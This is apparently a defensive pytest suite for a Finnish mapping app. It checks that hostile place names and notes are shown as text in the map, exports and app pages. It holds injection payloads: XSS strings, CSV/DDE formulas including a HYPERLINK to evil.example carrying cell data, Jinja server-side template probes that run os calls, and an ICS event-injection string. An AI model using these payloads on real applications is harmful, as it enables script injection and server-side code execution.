"""Hostile text: names, organisers, addresses, notes and opening-hours comments that look like HTML, scripts,
templates, formulas or math are shown as text everywhere (issue 10, item 3).

Surfaces: the project file, the map's popups and tooltips (coverage.outputs.webmap), the app's pages
(AppTest), and
every export: HTML (the document structure is the same as for a harmless project), GeoPackage (verbatim),
CSV (formulas defused with a leading ``'``, OWASP "CSV Injection"), XLSX (no formula cells: string cells with
Excel's quote prefix), ICS (RFC 5545 escaping: no injected properties or events) and the PDFs (drawn as text,
no mathtext). The real-browser proof is tests/test_browser_hostile.py.
"""

from __future__ import annotations

import csv
import datetime as dt
import html
import io
import json
import re
import string
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest

from coverage.analysis import study
from coverage.analysis.reach import analyze
from coverage.core import i18n
from coverage.core.model import Project
from coverage.io import store
from coverage.io.datasets import load_dataset
from coverage.outputs import calendar, document, export, gpkg, leaflet, printmap, tables, webmap

ROOT = Path(__file__).resolve().parent.parent
TODAY = dt.date(2026, 10, 5)  # a Monday in the autumn term

IMG = "<img src=x onerror=alert(1)>"
SCRIPT = "<script>alert(1)</script>"
SVG = '"><svg onload=alert(1)>'
TEMPLATE = "{{7*7}} ${7*7} <%= 7*7 %>"
JS_URL = "javascript:alert(1)"
LONG = "Hyvin pitkä nimi " + "ä" * 3000 + " loppu"
RTL = "مركز العائلة 👶🏽 משפחה \u202eevil\u202c ok"
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"Klikkaa")'
CMD = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
MATH = r"Perhekahvila $x^2$ ja $\alpha$"
BAD_MATH = r"Kerho $\foo{$ rikki"
MARKDOWN = "**lihava** [klikkaa](javascript:alert(1)) ![kuva](http://127.0.0.1:9/x.png) # otsikko | a | b |"

PAYLOADS = {
    "img": IMG,
    "script": SCRIPT,
    "svg": SVG,
    "template": TEMPLATE,
    "js_url": JS_URL,
    "long": LONG,
    "rtl": RTL,
    "formula": FORMULA,
    "cmd": CMD,
    "at": AT,
    "minus": MINUS,
    "math": MATH,
    "bad_math": BAD_MATH,
    "markdown": MARKDOWN,
}
"""Each becomes the name of a place of its own (id ``H<key>``); the other text fields cycle through them."""

QUOTE_FREE = [p for p in PAYLOADS.values() if '"' not in p and len(p) < 200]
"""Payloads that fit into an opening-hours comment (``"..."`` cannot hold a double quote)."""

PROJECT_NAME = "Vihti </title><script>alert(1)</script> $y_1$ {{7*7}}"
TEXT_FIELDS = ("organiser", "address", "notes")


def hostile_project() -> Project:
    """Vihti with one extra place per payload; organiser, address, notes, hours comments, some area names."""
    base = load_dataset("vihti")
    keys = list(PAYLOADS)
    rows = []
    for i, key in enumerate(keys):
        row = base.places.iloc[i % len(base.places)].copy()
        row["id"] = f"H{key}"
        row["name"] = PAYLOADS[key]
        for j, field in enumerate(TEXT_FIELDS, start=1):
            row[field] = PAYLOADS[keys[(i + j) % len(keys)]]
        comment = QUOTE_FREE[i % len(QUOTE_FREE)]
        row["opening_hours"] = f'Sep-May Tu 10:00-12:00 "{comment}"; PH off'
        rows.append(row)
    extra = gpd.GeoDataFrame(pd.DataFrame(rows), geometry="geometry", crs=base.places.crs)
    places = pd.concat([base.places, extra], ignore_index=True)
    areas = base.areas.copy()
    for k, key in enumerate(("formula", "img", "math", "svg")):
        areas.loc[areas.index[k], ["name", "village"]] = PAYLOADS[key]  # a one-cell village of that name
    boundary = base.boundary.copy()
    boundary["name"] = SCRIPT
    project = base.copy()
    project.places = gpd.GeoDataFrame(places, geometry="geometry", crs=base.places.crs)
    project.areas = areas
    project.boundary = boundary
    project.name = PROJECT_NAME
    return project


@pytest.fixture(scope="module")
def project() -> Project:
    return hostile_project()


@pytest.fixture(scope="module")
def data(project) -> study.Study:
    return study.prepare(project, today=TODAY)


# --- helpers ------------------------------------------------------------------------------------------------


class Doc(HTMLParser):
    """Tags, attributes and text of an HTML document or fragment (entities decoded)."""

    def __init__(self, markup: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str, str | None]] = []
        self.chunks: list[str] = []
        self.titles: list[str] = []
        self._in_title = False
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs += [(tag, name, value) for name, value in attrs]
        self._in_title = tag == "title"

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag):
        self._in_title = False

    def handle_data(self, data):
        self.chunks.append(data)
        if self._in_title:
            self.titles.append(data)

    @property
    def text(self) -> str:
        return "".join(self.chunks)


FRAGMENT_TAGS = {"b", "br", "code", "i"}


def assert_text_fragment(markup: str) -> str:
    """A popup/tooltip: only the builder's own formatting tags, no attributes; returns its text."""
    doc = Doc(markup)
    assert set(doc.tags) <= FRAGMENT_TAGS, (set(doc.tags) - FRAGMENT_TAGS, markup[:300])
    assert not doc.attrs, (doc.attrs, markup[:300])
    return doc.text


def geojson_blobs(page: str) -> list[dict]:
    """The FeatureCollections embedded in a map page (``L.geoJSON(<json>, ...)``)."""
    decoder = json.JSONDecoder()
    out = []
    for match in re.finditer(r"L\.geoJSON\(", page):
        value, _end = decoder.raw_decode(page, match.end())
        out.append(value)
    return out


# --- project file -------------------------------------------------------------------------------------------


def test_project_file_keeps_hostile_text_verbatim(project, tmp_path):
    path = tmp_path / "hostile.gpkg"
    store.save(project, path)
    loaded = store.load(path)
    cols = ["id", "name", *TEXT_FIELDS, "opening_hours"]
    got = loaded.places.set_index("id").loc[[f"H{k}" for k in PAYLOADS], cols[1:]]
    want = project.places.set_index("id").loc[[f"H{k}" for k in PAYLOADS], cols[1:]]
    pd.testing.assert_frame_equal(got.astype(str), want.astype(str))
    assert loaded.name == PROJECT_NAME
    assert loaded.areas["name"].tolist()[:4] == [FORMULA, IMG, MATH, SVG]


# --- map popups and tooltips -------------------------------------------------------------------------------


def test_map_popups_and_tooltips_show_text(project):
    result = analyze(project)
    m = webmap.coverage_map(project, result, tiles=False)
    layers = webmap.layers(m)
    places = {f["properties"]["tooltip"]: f for f in layers["places"].features}
    assert len(places) == len(project.places)  # every place drawn, every tooltip distinct
    by_id = project.places.set_index("id")
    for key, payload in PAYLOADS.items():
        row = by_id.loc[f"H{key}"]
        feature = next(f for t, f in places.items() if assert_text_fragment(t) == payload)
        popup = assert_text_fragment(feature["properties"]["popup"])
        assert payload in popup
        for field in ("organiser", "address"):
            assert row[field] in popup, (key, field)
        comment = re.search(r'"(.*)"', row["opening_hours"]).group(1)
        assert comment in popup
    # area tooltips and the boundary's
    # grid cells name themselves in their popups, villages in their labels' popups
    area_texts = [assert_text_fragment(f["properties"]["popup"]) for f in layers["areas"].features]
    village_texts = [assert_text_fragment(f["properties"]["popup"]) for f in layers["villages"].features]
    for payload in (FORMULA, IMG, MATH, SVG):
        assert any(t.startswith(payload) for t in area_texts), payload
        assert any(t.startswith(payload) for t in village_texts), payload
    assert [assert_text_fragment(f["properties"]["tooltip"]) for f in layers["boundary"].features] == [SCRIPT]
    # every popup/tooltip of every layer is a text fragment
    for layer in layers.values():
        for f in layer.features:
            for prop in ("popup", "tooltip"):
                if prop in f["properties"]:
                    assert_text_fragment(f["properties"][prop])


def test_map_page_embeds_data_as_json_not_markup(project):
    page = webmap.coverage_map(project, analyze(project), tiles=False).get_root().render()
    for raw in (IMG, SCRIPT, "<svg", "</script><script>alert"):
        assert raw not in page
    doc = Doc(page)
    assert not {"img", "svg", "iframe", "object", "embed"} & set(doc.tags)
    assert not [a for a in doc.attrs if a[1].lower().startswith("on")]


# --- exports ------------------------------------------------------------------------------------------------

needs_leaflet = pytest.mark.skipif(
    not (leaflet.LEAFLET_DIR / "leaflet.js").is_file(),
    reason="Leaflet not fetched (make static/leaflet/leaflet.js)",
)


@needs_leaflet
def test_html_export_has_the_structure_of_a_harmless_map(data):
    page = webmap.html_map(data)
    plain = webmap.html_map(study.prepare(load_dataset("vihti"), today=TODAY))
    doc, plain_doc = Doc(page), Doc(plain)
    # hostile data adds no element and no attribute: the tag sequence is that of the harmless export
    assert doc.tags == plain_doc.tags
    assert [(t, n) for t, n, _v in doc.attrs] == [(t, n) for t, n, _v in plain_doc.attrs]
    assert not [a for a in doc.attrs if a[1].lower().startswith("on") or "javascript:" in (a[2] or "")]
    for raw in (IMG, SCRIPT, "</title><script>", "<svg onload"):
        assert raw not in page
    # the title shows the project name as text
    assert "".join(doc.titles) == f"{document.text('title', 'fi')} – {PROJECT_NAME}"
    # the popups inside the page's data carry the payloads escaped, and show them as text
    shown = set()
    for blob in geojson_blobs(page):
        for f in blob["features"]:
            for prop in ("popup", "tooltip"):
                if prop in f["properties"]:
                    shown.add(assert_text_fragment(f["properties"][prop]))
    for payload in PAYLOADS.values():
        assert payload in shown
    assert any(html.escape(IMG) in blob_text for blob_text in map(json.dumps, geojson_blobs(page)))
    # the title box (export's own element) shows the project name literally, "{{7*7}}" included
    boxes = re.findall(r'div\.innerHTML = ("(?:[^"\\]|\\.)*");', page)
    assert any(PROJECT_NAME in Doc(json.loads(b)).text for b in boxes), boxes


def test_script_json_is_inert_in_a_second_jinja_pass():
    from jinja2 import Template

    value = {"a": [TEMPLATE, SCRIPT, "{% if 1 %}x{% endif %} {# c #}", "'\"\\"], "b": {"c": {"d": 1}}}
    text = leaflet.script_json(value)
    assert Template(text).render() == text  # nothing for Jinja to evaluate
    assert "</" not in text and "{{" not in text and "{%" not in text and "{#" not in text
    assert json.loads(text) == value


SSTI = "{{ lipsum.__globals__.os.getpid() }}"
"""A Jinja expression with a side effect in the server process (harmless here: it reads the pid)."""


def test_map_render_does_not_evaluate_templates(project):
    import os

    places = project.places.copy()
    places.loc[places["id"] == "Himg", "name"] = SSTI
    probe = project.copy()
    probe.places = places
    page = webmap.coverage_map(probe, tiles=False).get_root().render()
    shown = {
        Doc(f["properties"]["tooltip"]).text
        for blob in geojson_blobs(page)
        for f in blob["features"]
        if "tooltip" in f["properties"]
    }
    assert TEMPLATE in shown and SSTI in shown
    assert f"{os.getpid()}" not in shown


def test_gpkg_export_stores_text_verbatim(data, tmp_path):
    import pyogrio

    path = tmp_path / "vienti.gpkg"
    gpkg.write_gpkg(data, path)
    places = pyogrio.read_dataframe(path, layer=gpkg.GPKG_LAYERS["places"]).set_index("id")
    for key, payload in PAYLOADS.items():
        assert places.loc[f"H{key}", "name"] == payload
    areas = pyogrio.read_dataframe(path, layer=gpkg.GPKG_LAYERS["areas"])
    assert areas["name"].tolist()[:4] == [FORMULA, IMG, MATH, SVG]
    summary = pyogrio.read_dataframe(path, layer=gpkg.GPKG_LAYERS["summary"])
    assert PROJECT_NAME in summary["value"].tolist()


TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("lang", ["fi", "en"])
@pytest.mark.parametrize("table", ["places", "areas"])
def test_csv_defuses_formulas_and_keeps_other_text(data, lang, table):
    d = study.Study.from_parts(data.project, data.result, lang=lang, today=TODAY)
    raw = export.export_bytes(d, "csv", table=table).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw, newline=""), delimiter="," if lang == "en" else ";"))
    cells = [c for row in rows[1:] for c in row]
    # OWASP: no text cell starts like a formula
    starts = [c for c in cells if c.startswith(TRIGGERS) and not re.fullmatch(r"-?[\d.,]+", c)]
    assert not starts, starts
    names = [row[1] for row in rows[1:]]
    if table == "places":
        for payload in (FORMULA, CMD, AT, MINUS):
            assert "'" + payload in names
        for payload in (IMG, SCRIPT, SVG, TEMPLATE, JS_URL, LONG, RTL, MATH, MARKDOWN):
            assert payload in names  # everything else verbatim
    else:
        assert names[:4] == ["'" + FORMULA, IMG, MATH, SVG]
    assert len(rows) == 1 + (len(data.project.places) if table == "places" else len(data.project.areas))


def test_defuse_formula_only_touches_formula_text():
    assert tables.defuse_formula("=1+1") == "'=1+1"
    assert tables.defuse_formula("\tcmd") == "'\tcmd"
    assert tables.defuse_formula("\uff1dSUM(A1)") == "'\uff1dSUM(A1)"
    assert tables.defuse_formula("Nummela") == "Nummela"
    assert tables.defuse_formula("'=already") == "'=already"
    assert tables.defuse_formula(-1.5) == -1.5
    assert tables.defuse_formula(None) is None


def test_xlsx_has_no_formula_cells(data):
    from openpyxl import load_workbook

    raw = export.export_bytes(data, "xlsx")
    with zipfile.ZipFile(io.BytesIO(raw)) as z:
        sheets = [z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any(re.search(r"<f[ >]", s) for s in sheets)  # no <f> element at all
    wb = load_workbook(io.BytesIO(raw))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value: c for c in cells if isinstance(c.value, str)}
    for payload in (FORMULA, CMD, AT, MINUS):
        cell = values[payload]  # the text verbatim, as a string cell with Excel's quote prefix
        assert cell.data_type == "s" and cell.quotePrefix, payload
    for payload in (IMG, SCRIPT, TEMPLATE, RTL, MATH, LONG):
        assert payload in values
    assert values[PROJECT_NAME].data_type == "s"


def test_ics_escapes_text_per_rfc5545(project):
    import icalendar

    start, end = dt.date(2026, 10, 5), dt.date(2026, 10, 11)
    newline = project.copy()
    places = newline.places.copy()
    evil = "Kahvila\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Evil;X=1,2\\n"
    places.loc[places["id"] == "Himg", "name"] = evil
    newline.places = places
    raw = calendar.family_calendar(newline, start=start, end=end, today=TODAY).to_ical()
    plain = calendar.family_calendar(load_dataset("vihti"), start=start, end=end, today=TODAY).to_ical()
    cal = icalendar.Calendar.from_ical(raw)
    events = cal.walk("VEVENT")
    # one event per session: 7 Vihti places as usual + each hostile place on Tuesday
    n_plain = len(icalendar.Calendar.from_ical(plain).walk("VEVENT"))
    assert len(events) == n_plain + len(PAYLOADS)
    lines = raw.decode("utf-8").replace("\r\n ", "").split("\r\n")  # unfolded content lines
    assert not [ln for ln in lines if ln.startswith("SUMMARY:Evil")]
    assert sum(ln == "BEGIN:VEVENT" for ln in lines) == len(events)
    summaries = {str(e["summary"]) for e in events}
    assert evil.replace("\r\n", "\n") in summaries  # read back verbatim (RFC 5545 has only "\n" line breaks)
    assert "SUMMARY:Kahvila\\nEND:VEVENT\\nBEGIN:VEVENT\\nSUMMARY:Evil\\;X=1\\,2\\\\n" in lines
    for key, payload in PAYLOADS.items():
        if key != "img":
            assert payload in summaries, key
    descriptions = " ".join(str(e.get("description", "")) for e in events)
    for payload in (IMG, SVG, TEMPLATE, FORMULA):
        assert payload in descriptions


# --- PDFs: the print map and the meeting report -------------------------------------------------------------


def test_print_style_draws_dollars_as_text(tmp_path):
    """The figures' style turns matplotlib's mathtext off: ``$x^2$`` is text and ``$\\foo$`` no crash."""
    import pypdf

    with printmap.style():
        fig = printmap.new_figure((4, 2))
        fig.text(0.1, 0.6, MATH)
        fig.text(0.1, 0.3, BAD_MATH + " 👶")
        out = tmp_path / "t.pdf"
        fig.savefig(out, format="pdf")
    text = pypdf.PdfReader(out).pages[0].extract_text()
    assert MATH in text and BAD_MATH in text


def _pdf_text(raw: bytes) -> str:
    import pypdf

    return "\n".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(raw)).pages)


@pytest.mark.slow
@pytest.mark.parametrize("fmt", ["pdf", "report"])
def test_pdfs_draw_hostile_names_as_text(data, fmt):
    text = _pdf_text(export.export_bytes(data, fmt))
    for payload in (MATH, BAD_MATH, SCRIPT, TEMPLATE):
        assert payload in text, payload
    if fmt == "report":
        assert PROJECT_NAME in text
        assert "$x^2$" in text


# --- the app (AppTest) --------------------------------------------------------------------------------------

_ESCAPED = set(r"\`*_[]<>$|~!#")
"""Markdown-active characters a payload may show only backslash-escaped in a markdown body."""


def _literal_pattern(payload: str) -> re.Pattern:
    """A markdown source that renders ``payload`` literally: active characters escaped, other punctuation
    optionally escaped."""
    parts = []
    for ch in payload:
        if ch in _ESCAPED:
            parts.append(re.escape("\\" + ch))
        elif ch in string.punctuation:
            parts.append(r"\\?" + re.escape(ch))
        else:
            parts.append(re.escape(ch))
    return re.compile("".join(parts))


MARKERS = {payload: payload[:12] for payload in PAYLOADS.values()}


def _markdown_surfaces(at):
    """(where, markdown body, allow_html) of every element whose text Streamlit renders as markdown."""
    for node in at._tree:
        proto = getattr(node, "proto", None)
        if proto is None:
            continue
        kind = type(node).__name__
        for field in ("body", "label", "help", "caption"):
            if field in proto.DESCRIPTOR.fields_by_name:
                value = getattr(proto, field)
                if isinstance(value, str) and value:
                    allow = bool(getattr(proto, "allow_html", False)) if field == "body" else False
                    yield f"{kind}.{field}", value, allow


ROUTED_APP_PROBLEMS: set[str] = set()
"""Known and routed: app_pages/tilastot.py puts project.municipality_name into st.header without
common._md (markdown/LaTeX in a project name is rendered). Remove an entry when its page is fixed."""


def _check_page(at, page: str) -> list[str]:
    bad = []
    for where, body, allow_html in _markdown_surfaces(at):
        plain = re.sub(r"\\(.)", r"\1", body)
        for payload in PAYLOADS.values():
            if payload[:20] not in plain:
                continue
            if allow_html and html.escape(payload, quote=False) not in body:
                bad.append(f"{page}: {where} renders HTML with the payload raw: {body[:120]!r}")
            elif not _literal_pattern(payload[:60]).search(body.replace("\u2060", "")):  # autolink breaker
                bad.append(f"{page}: {where} shows {payload[:30]!r} as markdown: {body[:160]!r}")
    return bad


@pytest.mark.slow
def test_app_pages_show_hostile_text_literally(projects_dir):
    from streamlit.testing.v1 import AppTest

    store.save(hostile_project(), projects_dir / "hostile.gpkg")
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=90)
    at.session_state["source"] = "file:hostile.gpkg"
    at.run()
    assert not at.exception, at.exception
    pages = sorted(p.name for p in (ROOT / "app_pages").glob("*.py") if p.stem not in ("__init__", "common"))
    problems: list[str] = []
    seen = 0
    try:
        i18n.set_language("fi")
        for page in pages:
            at.switch_page(f"app_pages/{page}").run()
            assert not at.exception, (page, at.exception)
            assert at.session_state["source"] == "file:hostile.gpkg"
            problems += _check_page(at, page)
            seen += sum(
                any(p[:20] in re.sub(r"\\(.)", r"\1", b) for p in PAYLOADS.values())
                for _w, b, _a in _markdown_surfaces(at)
            )
    finally:
        i18n.set_language("fi")
    assert seen, "no page showed a hostile name at all: the check would be empty"
    routed = [p for p in problems if p.split(" shows ")[0].split(" renders ")[0] in ROUTED_APP_PROBLEMS]
    unexpected = [p for p in problems if p not in routed]
    assert not unexpected, "\n".join(unexpected)
    still = {p.split(" shows ")[0].split(" renders ")[0] for p in routed}
    assert still == ROUTED_APP_PROBLEMS, (
        f"fixed: remove {ROUTED_APP_PROBLEMS - still} from ROUTED_APP_PROBLEMS"
    )


@pytest.mark.slow
@pytest.mark.parametrize(
    "name",
    [
        "{{ lipsum.__globals__.os.mkdir(dict(katve_ssti_probe=1)|first) }}",  # runs code in the server
        "{{ 'x' }}",  # tojson turns ' into \\u0027: a Jinja syntax error that crashed the page
    ],
)
def test_kohtaamispaikat_map_does_not_run_templates_from_place_names(
    name, projects_dir, tmp_path, monkeypatch
):
    """st_folium(render=True) renders the map's figure: a place name must not run as a Jinja template."""
    from streamlit.testing.v1 import AppTest

    probe = load_dataset("vihti")
    places = probe.places.copy()
    places.loc[places.index[0], "name"] = name
    probe.places = places
    store.save(probe, projects_dir / "probe.gpkg")
    monkeypatch.chdir(tmp_path)  # a relative mkdir would land here
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=90)
    at.session_state["source"] = "file:probe.gpkg"
    at.run()
    at.switch_page("app_pages/kohtaamispaikat.py").run()
    assert not (tmp_path / "katve_ssti_probe").exists(), "a place name ran as code on the server"
    assert not at.exception, at.exception
